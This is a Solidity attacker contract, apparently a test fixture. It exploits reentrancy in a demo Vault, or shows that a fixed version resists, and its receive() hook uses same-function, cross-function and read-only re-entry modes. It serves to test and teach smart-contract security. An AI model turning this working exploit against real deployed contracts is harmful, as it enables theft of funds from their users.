// SPDX-License-Identifier: MIT
// Attacks Vault (or shows that VaultFixed resists): attack() deposits msg.value and withdraws
// it; when the vault sends the ether, receive() re-enters the vault once, as `mode` says:
//   0: no re-entry (a plain deposit and withdrawal);
//   1: same function: withdraw() again, which pays the balance a second time on Vault;
//   2: cross-function: transfer() this contract's vault balance to the accomplice, who keeps
//      a claim on Vault after the withdrawal has paid it out;
//   3: read-only: PriceConsumer(consumer).quote(vault), which records sharePrice() in the
//      middle of the withdrawal (a stale price on Vault).
// Modes 1 and 2 use low-level calls and ignore their result: against VaultFixed the inner
// withdraw() reverts (the balance is already zero) and the attack must still go through as a
// transaction. The outer withdraw() is a high-level call, so if it fails attack() reverts.
pragma solidity 0.8.28;

interface IVault {
    function deposit() external payable;
    function withdraw() external;
    function transfer(address to, uint256 amount) external;
    function balanceOf(address holder) external view returns (uint256);
}

interface IPriceConsumer {
    function quote(address vault) external returns (uint256);
}

contract VaultAttacker {
    IVault public immutable vault;
    address public immutable accomplice;

    // All three packed into slot 0 (offsets 0, 1 and 2).
    uint8 public mode;
    bool public reentered;  // at most one re-entry per attack
    address public consumer;

    // What the re-entering call did (ok: whether it succeeded; mode 3 always true).
    event Reentered(uint8 mode, bool ok);

    constructor(address vault_, address accomplice_) {
        vault = IVault(vault_);
        accomplice = accomplice_;
    }

    function attack(uint8 mode_, address consumer_) external payable {
        mode = mode_;
        consumer = consumer_;
        reentered = false;
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    receive() external payable {
        if (mode == 0 || reentered) return;
        reentered = true;
        bool ok = true;
        if (mode == 1) {
            (ok, ) = address(vault).call(abi.encodeCall(IVault.withdraw, ()));
        } else if (mode == 2) {
            uint256 balance = vault.balanceOf(address(this));
            (ok, ) = address(vault).call(abi.encodeCall(IVault.transfer, (accomplice, balance)));
        } else if (mode == 3) {
            IPriceConsumer(consumer).quote(address(vault));
        }
        emit Reentered(mode, ok);
    }
}
